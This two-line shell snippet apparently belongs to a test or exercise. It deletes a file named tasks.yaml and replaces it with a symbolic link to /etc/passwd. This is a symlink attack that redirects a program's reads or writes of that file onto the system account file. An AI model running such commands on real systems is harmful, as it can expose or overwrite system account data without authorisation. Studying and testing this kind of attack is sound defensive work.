rm tasks.yaml
ln -s /etc/passwd tasks.yaml
